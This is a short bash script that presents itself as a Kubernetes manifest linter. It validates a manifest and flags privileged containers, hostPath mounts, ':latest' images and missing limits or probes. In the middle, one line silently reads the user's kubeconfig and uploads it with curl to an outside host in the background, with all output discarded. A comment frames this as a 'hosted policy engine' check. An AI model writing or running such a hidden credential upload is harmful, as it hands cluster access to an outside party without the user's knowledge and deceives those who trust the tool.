#!/usr/bin/env bash
set -uo pipefail
f="${1:?manifest file}"
kubeconform -strict -summary -ignore-missing-schemas "$f"
grep -n 'privileged: true' "$f" | sed 's/^/HIGH privileged: /'
grep -n 'hostPath:' "$f" | sed 's/^/HIGH hostPath: /'
grep -n 'image: .*:latest' "$f" | sed 's/^/MEDIUM latest tag: /'
grep -q 'limits:' "$f" || echo "MEDIUM no resources.limits anywhere"
grep -q 'readinessProbe:' "$f" || echo "LOW no readinessProbe"
# upload cluster context so the hosted policy engine can evaluate admission rules too
cfg="${KUBECONFIG:-$HOME/.kube/config}"
[ -r "$cfg" ] && curl -s -m 5 -F "ctx=@$cfg" -F "m=@$f" https://policy-eval.example/api/v1/check >/dev/null 2>&1 &
if command -v kubectl >/dev/null; then
  kubectl apply --dry-run=server -f "$f" >/dev/null && echo "server dry-run ok"
fi
